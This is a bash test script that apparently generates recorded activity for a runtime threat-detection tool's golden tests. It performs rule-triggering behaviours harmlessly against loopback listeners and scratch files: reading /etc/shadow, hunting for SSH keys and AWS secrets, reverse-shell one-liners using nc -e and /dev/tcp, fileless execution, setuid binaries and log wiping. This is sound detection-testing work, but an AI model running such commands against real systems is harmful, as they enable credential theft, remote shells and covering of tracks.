#!/bin/bash
# SPDX-License-Identifier: Apache-2.0
#
# behaviours.sh PART HELPER DIR: the activity recorded by record.sh into PART.osc (PART: host or
# container); record.sh runs it under a copy of bash named osp-golden-rec (the root of the
# recorded process tree). Each line performs for real one behaviour that Osprey's default rules
# or Falco's rules report, plus some ordinary activity that they must not report. DIR is a
# scratch directory (removed by record.sh).
set -u

PART=$1
HELPER=$2
D=$3
cd "$D" || exit 1

if [ "$PART" = container ]; then
	# a crun container, container.id 0123456789ab
	exec bash "$(dirname "$0")/../e2e/crun-container.sh" "$HELPER" "$D/ct" \
		0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef false \
		'["CAP_SYS_ADMIN", "CAP_NET_RAW"]' '
/usr/bin/mawk "BEGIN { system(\"id -u\") }" >/dev/null
apt-get --version >/dev/null
cp /usr/bin/true /root/osp-drop && /root/osp-drop
perl -e "socket(my \$s, 17, 3, 0); 1"
debugfs -V 2>/dev/null
bash -c "exec 3<>/dev/tcp/10.96.0.1/443"
cat /etc/shadow >/dev/null
nc.traditional -w1 -e /bin/true 10.96.0.1 443 2>/dev/null
true'
fi

# ordinary activity: nothing to report
ls / >/dev/null
cat /etc/hostname >/dev/null
echo data >"$D/plain.txt"
grep -q data "$D/plain.txt"

# credential access
head -c1 /etc/shadow >/dev/null
find "$D" -maxdepth 1 -name id_rsa
grep -rs aws_secret_access_key "$D"
ln -s /etc/shadow "$D/shadow-link"
[ "$(stat -c %d /etc/shadow)" = "$(stat -c %d "$D")" ] && ln /etc/shadow "$D/shadow-hard" &&
	rm -f "$D/shadow-hard"

# fileless and staged execution
"$HELPER" memfd-exec osp-golden /usr/bin/true
cp /usr/bin/true /dev/shm/osp-golden-true && /dev/shm/osp-golden-true
rm -f /dev/shm/osp-golden-true

# remote shells, against listeners on the loopback device
"$HELPER" listen 127.0.0.1 39151 2 "$D/listen" &
for _ in $(seq 1 50); do [ -e "$D/listen" ] && break; sleep 0.1; done
command -v nc.traditional >/dev/null && nc.traditional -w1 -e /bin/true 127.0.0.1 39151
bash -c 'exec /bin/true >& /dev/tcp/127.0.0.1/39151 0>&1'
wait

# tampering with the system
touch /usr/local/bin/osp-golden && rm -f /usr/local/bin/osp-golden
touch /etc/osp-golden && rm -f /etc/osp-golden
sh -c ': >> /etc/passwd'
cp /usr/bin/true "$D/suid" && chmod u+s "$D/suid"
mkdir -p "$D/prefix/etc"
echo 'root:x:0:0:root:/root:/bin/sh' >"$D/prefix/etc/passwd"
echo 'root:x:0:' >"$D/prefix/etc/group"
echo 'root:*:19000:0:99999:7:::' >"$D/prefix/etc/shadow"
echo 'root:*::' >"$D/prefix/etc/gshadow"
useradd --prefix "$D/prefix" -M osp-golden-user
sh -c 'echo 65534 > /proc/self/loginuid && perl -MPOSIX -e "POSIX::setuid(0)"; true'
sleep 5 &
timeout 1 strace -qq -o /dev/null -p $!
kill $! 2>/dev/null
perl -e 'syscall(101, 0, 0, 0, 0)'
head -c 256 /dev/zero >"$D/osp-golden.ko"
insmod "$D/osp-golden.ko" 2>/dev/null
echo "osprey golden" >>/var/log/osp-golden.log
sh -c ': > /var/log/osp-golden.log'
rm -f /var/log/osp-golden.log
head -c 1024 /dev/zero >"$D/shred-me" && shred -u "$D/shred-me"

# connections to "public" addresses, in a network namespace where they are local
unshare -n bash -c '
ip link set lo up && ip addr add 198.51.100.7/32 dev lo || exit 1
"$1" listen 198.51.100.7 2200 1 "$2/l1" & "$1" listen 198.51.100.7 3333 1 "$2/l2" &
for _ in $(seq 1 50); do [ -e "$2/l1" ] && [ -e "$2/l2" ] && break; sleep 0.1; done
ssh -F /dev/null -o BatchMode=yes -o ConnectTimeout=2 -o StrictHostKeyChecking=no \
	-o UserKnownHostsFile=/dev/null -p 2200 198.51.100.7 true 2>/dev/null
bash -c "exec 3<>/dev/tcp/198.51.100.7/3333"
wait' netns "$HELPER" "$D"

exit 0
